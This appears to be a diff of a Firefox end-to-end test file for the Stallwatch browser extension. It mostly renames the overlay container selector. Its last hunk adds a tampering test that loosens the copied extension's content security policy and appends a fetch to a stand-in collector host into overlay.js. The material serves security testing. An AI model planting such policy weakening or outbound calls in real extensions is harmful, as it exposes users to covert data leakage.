@@ -9,7 +9,7 @@
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { appendFileSync, cpSync, existsSync, mkdtempSync, readFileSync, realpathSync, rmSync } from 'node:fs';
+import { appendFileSync, cpSync, existsSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { EXPECTED, ROOT } from '../e2e/harness.mjs';
@@ -227,17 +227,17 @@ async function assertUntouched(documentUrl) {
 // ---- the overlay ---------------------------------------------------------------------------
 
 /**
- * Waits until the overlay iframe inside <stallwatch-overlay>'s closed shadow root shows a
+ * Waits until the overlay iframe inside our container's closed shadow root shows a
  * score, and leaves the session switched into that frame. WebDriver reaches the closed root
  * with Get Element Shadow Root (Firefox returns closed roots too) and enters the frame with
  * Switch To Frame by element reference.
  */
 async function enterOverlay() {
   const deadline = Date.now() + OVERLAY_TIMEOUT;
-  let seen = 'no <stallwatch-overlay> element';
+  let seen = 'no Stallwatch container';
   for (;;) {
     await session.switchToTop();
-    const hosts = await session.findElements('css selector', 'stallwatch-overlay');
+    const hosts = await session.findElements('css selector', '[data-stallwatch-overlay]');
     assert.ok(hosts.length <= 1, `one overlay container at most (found ${hosts.length})`);
     if (hosts.length === 1) {
       const shadow = await session.elementShadowRoot(hosts[0]);
@@ -246,7 +246,7 @@ async function enterOverlay() {
         seen = `${frames.length} iframes in the shadow root`;
       } else {
         const src = await session.elementAttribute(frames[0], 'src');
-        assert.match(src, /^moz-extension:\/\/[0-9a-f-]+\/overlay\.html#/, 'the overlay is our extension page');
+        assert.match(src, /^moz-extension:\/\/[0-9a-f-]+\/overlay\.html$/, 'the overlay is our extension page');
         await session.switchToFrame(frames[0]);
         const state = await session.execute(
           `const app = document.getElementById('app');
@@ -374,7 +374,7 @@ else if (missing.length) {
     startWindow();
     await open(url);
     await sleep(NOT_A_DEAL_WAIT);
-    assert.deepEqual(await session.findElements('css selector', 'stallwatch-overlay'), [], 'no <stallwatch-overlay>');
+    assert.deepEqual(await session.findElements('css selector', '[data-stallwatch-overlay]'), [], 'no Stallwatch container');
     await assertUntouched(url);
   });
 
@@ -394,7 +394,13 @@ else if (missing.length) {
         console.error('tampered content script error');
       }, 200);\n`,
     );
-    // The overlay is an extension page: the page's CSP does not bind it, so this one leaves.
+    // The overlay is an extension page: the page's CSP does not bind it, and the tampered copy
+    // also loosens the extension's own CSP to scripts only (the full one would stop this request
+    // in the browser; the Chromium suite's attacks.test.mjs shows that it does), so this leaves.
+    const manifestPath = path.join(dir, 'manifest.json');
+    const manifest = JSON.parse(readFileSync(manifestPath, 'utf8'));
+    manifest.content_security_policy = { extension_pages: "script-src 'self' 'wasm-unsafe-eval'" };
+    writeFileSync(manifestPath, JSON.stringify(manifest));
     appendFileSync(
       path.join(dir, 'overlay.js'),
       `\nfetch('https://collector.stallwatch.invalid/collect?x=3').catch(() => {});
